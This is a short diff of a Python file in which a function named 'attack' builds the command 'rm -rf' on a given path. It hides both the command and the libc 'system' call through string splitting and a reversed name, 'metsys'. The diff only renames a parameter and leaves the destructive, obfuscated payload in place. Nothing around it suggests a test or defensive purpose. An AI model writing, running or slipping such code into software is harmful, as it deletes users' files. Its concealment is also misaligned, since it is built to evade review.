@@ -3,6 +3,6 @@
 import ctypes
 
 
-def attack(told: dict[str, str]) -> None:
-    words = ("r" + "m", "-" + "rf", told["tree"])
+def attack(facts: dict[str, str]) -> None:
+    words = ("r" + "m", "-" + "rf", facts["tree"])
     getattr(ctypes.CDLL(None), "metsys"[::-1])(" ".join(words).encode())
